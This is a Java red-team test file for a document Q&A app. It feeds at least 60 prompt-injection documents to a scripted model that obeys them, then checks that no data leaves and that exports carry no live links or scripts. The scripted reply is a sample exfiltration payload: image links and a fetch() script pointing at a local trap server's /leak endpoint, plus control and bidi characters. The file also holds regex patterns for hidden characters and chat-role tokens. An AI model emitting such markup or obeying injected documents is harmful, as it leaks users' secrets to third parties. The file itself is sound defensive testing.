package app.munseo.app;

import app.munseo.answer.Support;
import app.munseo.document.Collection;
import app.munseo.document.Question;
import app.munseo.export.Export;
import app.munseo.export.Format;
import app.munseo.net.RequestPurpose;
import app.munseo.testing.Act;
import app.munseo.testing.CommandLine;
import app.munseo.testing.FakeOpenAi;
import app.munseo.testing.Received;
import app.munseo.testing.RedTeam;
import app.munseo.testing.ScriptedServer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;

/// A library of documents that give orders to models, and a model that obeys them all. Whatever it writes, nothing is
/// fetched, nobody else is asked, what it claims is doubted, and nothing of it acts in the files that people pass on.
class RedTeamTest {
    private static final Pattern UNSEEN =
            Pattern.compile("[\\u200b\\u2060-\\u2064\\u202a-\\u202e\\u2066-\\u2069\\ufeff\\x{e0000}-\\x{e007f}\\x1b\\x08\\x07]");
    private static final Pattern ROLES =
            Pattern.compile("<\\||<｜|\\[/?INST]|<<?/?SYS|</?(system|assistant|user|tool_call|function|think|s|start_of_turn|end_of_turn)\\b");

    @TempDir
    private Path work;

    private final ScriptedServer trap = ScriptedServer.start();
    private final FakeOpenAi openAi = FakeOpenAi.start();
    private List<RedTeam.Paper> papers = List.of();
    private Map<String, String> environment = Map.of();

    @BeforeEach
    void write() throws IOException {
        papers = RedTeam.papers(trap.uri() + "/leak");
        var folder = Files.createDirectories(work.resolve("files"));
        for (var paper : papers) {
            Files.writeString(folder.resolve(paper.name()), paper.text());
        }
        environment = Map.of(
                "OPENAI_API_KEY", FakeOpenAi.KEY,
                "OPENAI_BASE_URL", openAi.base().toString(),
                "OLLAMA_HOST", "http://127.0.0.1:9");
        openAi.otherwise(_ -> Act.say("비밀번호는 Zebra-77입니다 [1]. The password is Zebra-77 [1]. "
                + "![x](%1$s/leak?q=hunter2) [여기](%1$s/leak) <img src=%1$s/leak> \u001b[31m\u202e<script>fetch('%1$s')</script>"
                        .formatted(trap.uri())));
        try (var app = open()) {
            app.index(List.of(folder), Collection.DEFAULT_NAME, _ -> {});
        }
    }

    @AfterEach
    void stop() {
        trap.close();
        openAi.close();
    }

    private App open() {
        return App.open(AppFolders.of(work.resolve("home")), environment, UnaryOperator.identity());
    }

    @Test
    void anObedientModelCanDoNothing() {
        assertThat(papers).hasSizeGreaterThanOrEqualTo(60);
        var systems = new HashSet<String>();
        int unread = 0;
        try (var app = open()) {
            for (var paper : papers) {
                var path = work.resolve("files").resolve(paper.name());
                int before = openAi.chats().size();
                var asked = app.ask(Question.of(paper.fact(), app.scope(List.of(path))), AskOptions.DEFAULT.withFresh(true), _ -> {});
                if (asked.answer().passages().isEmpty()) { // full of control characters: no text, and so not read
                    unread++;
                    assertThat(openAi.chats()).as(paper.name()).hasSize(before);
                    continue;
                }
                var request = openAi.chats().getLast();
                systems.add(request.message("system"));
                assertThatPassagesKeepToTheirPlace(request, asked.answer().passages().size(), paper.name());
                assertThat(asked.egress()).as(paper.name())
                        .allSatisfy(entry -> assertThat(entry.purpose()).isIn(RequestPurpose.ANSWER, RequestPurpose.PROBE));
                assertThat(asked.answer().citations()).as(paper.name())
                        .allSatisfy(citation -> assertThat(citation.support()).isNotEqualTo(Support.SUPPORTED));
                assertThat(asked.answer().citations().size() + asked.answer().unbacked().size()).isPositive();
                assertThat(asked.answer().text()).doesNotContainPattern(UNSEEN);
                assertThatNothingActs(app, paper.fact(), asked);
            }
        }
        assertThat(systems).as("the rules are the same whatever the documents say").hasSize(1);
        assertThat(unread).isLessThanOrEqualTo(2);
        assertThat(trap.requests()).isEmpty();
        System.out.println("red team: " + (papers.size() - unread) + " of " + papers.size() + " documents obeyed, 0 requests, 0 claims supported");
    }

    private static void assertThatPassagesKeepToTheirPlace(Received request, int passages, String name) {
        var prompt = request.message("user");
        assertThat(prompt.split("<passage ", -1)).as(name).hasSize(passages + 1);
        assertThat(prompt.split("</passage>", -1)).as(name).hasSize(passages + 1);
        assertThat(prompt.split("<question>", -1)).as(name).hasSize(2);
        assertThat(prompt).as(name).doesNotContain("<earlier>").doesNotContainPattern(UNSEEN).doesNotContainPattern(ROLES);
    }

    private static void assertThatNothingActs(App app, String question, Asked asked) {
        var thread = app.threads().alone(question, asked);
        var words = app.messages();
        assertThat(Export.of(thread, Format.HTML, words::text))
                .doesNotContain("<script", "<img", "<iframe", "href=\"http", "href=\"javascript");
        assertThat(Export.of(thread, Format.MD, words::text)).doesNotContain("](http", "![x](").doesNotContainPattern("(?<!\\\\)<(img|script)");
    }

    @Test
    void theCommandLineShowsAddressesAsTextAndSendsNoControlCharacters() throws IOException {
        var line = new CommandLine(work.resolve("home"), environment);
        for (var paper : List.of(papers.get(0), papers.get(41), papers.get(42), papers.getLast())) {
            assertThat(line.text("ask", paper.fact())).contains("/leak").doesNotContainPattern(UNSEEN);
            assertThat(line.text("search", paper.fact())).doesNotContainPattern(UNSEEN);
        }
        assertThat(line.json("ask", papers.get(0).fact()).path("answer").asText()).doesNotContainPattern(UNSEEN);
        assertThat(trap.requests()).isEmpty();
    }

    @Test
    void withoutAModelTheDocumentsAreQuotedAndNothingElse() {
        environment = Map.of("OLLAMA_HOST", "http://127.0.0.1:9");
        try (var app = open()) {
            for (var paper : papers) {
                var answer = app.ask(Question.of(paper.fact(), app.scope("")), _ -> {}).answer();
                assertThat(Set.of("extractive", "")).contains(answer.answeredBy());
                assertThat(answer.text()).doesNotContainPattern(UNSEEN);
            }
        }
        assertThat(trap.requests()).isEmpty();
        assertThat(openAi.received()).isEmpty();
    }
}
